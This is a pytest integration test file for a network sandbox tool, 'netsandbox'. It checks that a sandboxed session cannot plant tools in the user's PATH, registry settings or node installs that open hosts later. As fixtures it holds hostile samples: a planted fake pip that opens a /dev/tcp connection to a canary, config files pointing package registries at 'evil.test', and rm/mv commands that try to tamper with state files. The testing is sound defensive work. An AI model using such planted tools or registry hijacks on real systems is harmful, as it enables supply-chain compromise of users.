"""A session that prepares the next one: by a tool in the user's PATH, which we would ask, or by settings in the user's
home, which we would believe. Both from inside, as any command can; the twins are the user's own.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.test_profiles import Shop, shop  # noqa: F401 (a fixture)
from tests.rig.command import Run
from tests.rig.trace import Trace
from tests.rig.world import World

pytestmark = pytest.mark.usefixtures("user_namespaces")

EVIL = "evil.test"
SETTINGS = {  # each tool's file of the user, what a session writes there, and a file that calls for the profile
    "npm": ("~/.npmrc", "registry=https://{}/\n", "package.json"),
    "yarn": ("~/.yarnrc", 'registry "https://{}/"\n', "yarn.lock"),
    "pip": ("~/config/pip/pip.conf", "[global]\nextra-index-url = https://{}/simple\n", "requirements.txt"),
    "cargo": ("~/.cargo/config.toml", '[registries.x]\nindex = "sparse+https://{}/"\n', "Cargo.toml"),
    "go": ("~/config/go/env", "GOPROXY=https://{}/\n", "go.mod"),
    "gem": ("~/.gemrc", ":sources:\n- https://{}/\n", "Gemfile"),
    "mvn": (
        "~/.m2/settings.xml",
        "<settings><mirrors><mirror><url>https://{}/</url></mirror></mirrors></settings>\n",
        "pom.xml",
    ),
}
SYSTEM = "/usr/bin:/bin"


def inside(shop: Shop, *commands: str) -> None:  # noqa: F811
    run = shop.world.netsandbox("run", "--no-detect", "--", "sh", "-ec", "\n".join(commands))
    assert run.returncode == 0, run.stderr


def written(shop: Shop, name: str, text: str) -> str:  # noqa: F811
    """The words that write *text* to *name* in the home."""
    path = shop.home.path / name[2:]
    return f"mkdir -p {path.parent}\nprintf '%s' '{text}' > {path}"


def explained(shop: Shop, host: str = EVIL, **more: Any) -> Run:  # noqa: F811
    run: Run = shop.world.netsandbox("explain", f"{host}:443", timeout=120, **more)
    return run


def plant(shop: Shop, name: str, script: str) -> Path:  # noqa: F811
    """A session puts a tool into a folder of the user's PATH."""
    path = shop.home.path / "bin" / name
    inside(shop, f"mkdir -p {path.parent}", f"cat > {path} <<'END'\n#!/bin/sh\n{script}\nEND", f"chmod 755 {path}")
    return path


@pytest.fixture
def trace(shop: Shop) -> Iterator[Trace]:  # noqa: F811
    """In the folder of the user's PATH, which the session of a query sees."""
    folder = shop.home.path / "bin"
    folder.mkdir()
    made = Trace(folder / "trace")
    for path in (folder, made.path):
        os.chown(path, shop.home.identity.uid, shop.home.identity.gid)
    yield made
    made.close()


@pytest.mark.ordinary_user
def test_a_tool_that_a_session_left_in_the_path_runs_in_no_run_of_ours(shop: Shop, trace: Trace) -> None:  # noqa: F811
    canary = shop.world.canary.tcp()
    connect = f"exec 3<>/dev/tcp/127.0.0.1/{canary.port}"
    script = f"{trace.command}\nbash -c '{connect}'\necho '--index-url (default https://{EVIL}/)'"
    planted = plant(shop, "pip", script)
    shop.write("requirements.txt", "")
    path = {"PATH": f"{planted.parent}:{shop.home.identity.path}"}
    run = shop.world.netsandbox("run", "--", "true", env=path, timeout=120)
    assert run.returncode == 0, run.stderr
    assert explained(shop, env=path).returncode == 1
    assert trace.lines() == []
    assert canary.accepts == 0


@pytest.mark.open_files
@pytest.mark.ordinary_user
def test_nor_does_it_reach_anything_once_the_user_trusts_it(shop: Shop, trace: Trace) -> None:  # noqa: F811
    """Trusted, it may name a registry, and is asked where nothing else is to be had."""
    canary = shop.world.canary.tcp()
    connect = f"exec 3<>/dev/tcp/127.0.0.1/{canary.port}"
    script = (
        f'echo "$NETSANDBOX_SESSION $SANDBOX_MODE" > {trace.path}\n'
        f"/bin/bash -c '{connect}' 2>/dev/null\n"
        f"echo '--index-url (default https://{EVIL}/)'"
    )
    planted = plant(shop, "pip", script)
    shop.write("requirements.txt", "")
    env = {"PATH": str(planted.parent)}
    before = explained(shop, env=env)
    assert before.returncode == 1
    told = shop.world.netsandbox("run", "--", "/bin/true", env=env, timeout=120).stderr
    assert "netsandbox: ~/bin would open the registry that pip in it names; ignored until you run" in told
    trusted = shop.world.netsandbox("trust", "--yes", planted.parent, env=env, timeout=120)
    assert trusted.returncode == 0, trusted.stderr
    assert trace.lines() == []
    assert explained(shop, env=env).returncode == 0, "the twin: what the user trusts is asked"
    session, mode = trace.lines()[0].split()
    assert (bool(session), mode) == (True, "offline")
    assert canary.accepts == 0
    inside(shop, f"echo '# more' >> {planted}")
    assert explained(shop, env=env).returncode == 1, "what another session changes is a new one"


def version(shop: Shop, name: str, registry: str) -> tuple[str, dict[str, str]]:  # noqa: F811
    """The words that install a version of node with its npm, as nvm does, and the variables of a shell that uses it."""
    folder = shop.home.path / ".nvm" / "versions" / "node" / name
    script = "\n".join(
        (
            f"mkdir -p {folder}/bin {folder}/lib",
            f"printf '#!/bin/sh\\necho https://{registry}/\\n' > {folder}/bin/node",
            f"printf '#!/usr/bin/env node\\n' > {folder}/lib/npm-cli.js",
            f"chmod 755 {folder}/bin/node {folder}/lib/npm-cli.js",
            f"ln -s ../lib/npm-cli.js {folder}/bin/npm",
        )
    )
    return script, {"PATH": f"{folder}/bin"}


@pytest.mark.ordinary_user
def test_an_upgrade_of_node_is_used_and_one_that_a_session_planted_is_not(shop: Shop) -> None:  # noqa: F811
    shop.write("package.json", "{}")
    install, env = version(shop, "v1", "first.test")
    shop.home.plainly(["sh", "-ec", install])
    inside(shop, "true")
    assert explained(shop, "first.test", env=env).returncode == 0
    install, env = version(shop, "v2", "second.test")
    shop.home.plainly(["sh", "-ec", install])
    assert explained(shop, "second.test", env=env).returncode == 0, "no session could write there"
    install, planted = version(shop, "v3", EVIL)
    wide = shop.world.netsandbox("run", "--no-detect", "--allow-write", "~/.nvm", "--", "sh", "-ec", install)
    assert wide.returncode == 0, wide.stderr
    assert explained(shop, env=planted).returncode == 1
    assert explained(shop, "second.test", env=env).returncode == 0, "the twin is older than that session"
    told = shop.world.netsandbox("run", "--", "/bin/true", env=planted, timeout=120).stderr
    advice = "ignored until you run `netsandbox trust ~/.nvm`"
    assert f"netsandbox: ~/.nvm would open the registry that npm in it names; {advice}\n" in told
    trusted = shop.world.netsandbox("trust", "--yes", shop.home.path / ".nvm", env=planted)
    assert "~/.nvm/versions/node/v3/bin/node\n" in trusted.stdout, "the new files are shown"
    assert explained(shop, env=planted).returncode == 0, "the twin: the user has seen them"


@pytest.mark.open_files
@pytest.mark.parametrize("tool", SETTINGS)
def test_settings_that_a_session_wrote_open_nothing(shop: Shop, tool: str) -> None:  # noqa: F811
    name, text, called_for = SETTINGS[tool]
    path = shop.home.path / name[2:]
    shop.write(called_for, "")
    env = {"PATH": SYSTEM, "GOSUMDB": "off"}
    inside(shop, written(shop, name, text.format(EVIL)))
    assert path.exists()
    assert explained(shop, env=env).returncode == 1
    told = shop.world.netsandbox("run", "--", "true", env=env, timeout=120).stderr
    shown = f"~/{name[2:]}"
    assert f"netsandbox: {shown} would open {EVIL}:443; ignored until you run `netsandbox trust {shown}`" in told
    trusted = shop.world.netsandbox("trust", "--yes", path, env=env, timeout=120)
    assert (trusted.returncode, f"fetches from {EVIL}:443" in trusted.stdout) == (0, True), trusted.stderr
    assert explained(shop, env=env).returncode == 0, "the twin: the user has seen it"
    path.write_text(text.format("worse.test"))
    assert explained(shop, "worse.test", env=env).returncode == 1, "a changed file is a new one"
    assert explained(shop, env=env).returncode == 1


@pytest.mark.open_files
@pytest.mark.ordinary_user
@pytest.mark.parametrize("tool", ["npm", "go"])
def test_settings_from_before_the_first_session_count_and_changed_ones_do_not(
    shop: Shop,  # noqa: F811
    tool: str,
) -> None:
    name, text, called_for = SETTINGS[tool]
    path = shop.write(name, text.format("mine.test"))
    shop.write(called_for, "")
    env = {"PATH": SYSTEM, "GOSUMDB": "off"}
    inside(shop, "true")
    assert explained(shop, "mine.test", env=env).returncode == 0
    os.utime(path, ns=(1, 1))  # touched from outside: no session, but who is to know
    assert explained(shop, "mine.test", env=env).returncode == 1
    trusted = shop.world.netsandbox("trust", "--yes", path, env=env, timeout=120)
    assert trusted.returncode == 0, trusted.stderr
    assert explained(shop, "mine.test", env=env).returncode == 0


@pytest.mark.ordinary_user
def test_a_session_cannot_make_itself_the_first(shop: Shop) -> None:  # noqa: F811
    """Nor move the note away: neither it nor a folder above it is seen or moved."""
    note = shop.home.state / "netsandbox" / "first-session"
    inside(shop, "true")
    before = note.read_bytes()
    marks = shop.home.path / ".local" / "share" / "netsandbox" / "written"
    marked = {mark.name: mark.read_bytes() for mark in marks.iterdir()}
    assert marked
    inside(
        shop,
        f"rm -rf {marks} || :",
        f"mv {marks.parents[1]} {shop.home.path}/away || :",
        f"for each in {marks}/*; do echo 9999999999999999999 > $each || :; done",
        f"rm -f {note} || :",
        f"rm -rf {note.parent} || :",
        f"mv {shop.home.state} {shop.home.path}/away || :",
        f"mkdir -p {note.parent} || :",
        f"echo 9999999999999999999 > {note} || :",
    )
    assert note.read_bytes() == before
    assert {mark.name: mark.read_bytes() for mark in marks.iterdir()} == marked


def test_asking_leaves_no_session_behind(shop: Shop) -> None:  # noqa: F811
    planted = shop.write("~/bin/pip", "#!/bin/sh\necho '--index-url (default https://mine.test/)'\n")
    planted.chmod(0o755)
    shop.write("requirements.txt", "")
    assert explained(shop, "mine.test", env={"PATH": f"{planted.parent}:{SYSTEM}"}).returncode == 0
    assert list((shop.home.state / "netsandbox").glob("sessions/*")) == []
    assert list((shop.home.path / "tmp").iterdir()) == []


@pytest.mark.ordinary_user
def test_inside_of_a_session_nothing_is_asked(shop: Shop, world: World, trace: Trace) -> None:  # noqa: F811
    """There no second session can be made, so the tool does not run at all."""
    tool = shop.write("~/bin/pip", f"#!/bin/sh\n{trace.command}\necho '--index-url (default https://mine.test/)'\n")
    tool.chmod(0o755)
    shop.write("requirements.txt", "")
    env = {"PATH": f"{tool.parent}:{SYSTEM}", "PYTHONPATH": shop.home.identity.pythonpath}
    ask = (shop.home.identity.python, "-m", "netsandbox", "explain", "mine.test:443")
    run = world.netsandbox("run", "--no-detect", "--", *ask, env=env, timeout=120)
    assert run.returncode == 1, run.stderr
    assert trace.lines() == []
    assert explained(shop, "mine.test", env=env).returncode == 0, "the twin: outside it is asked"
    assert trace.lines()
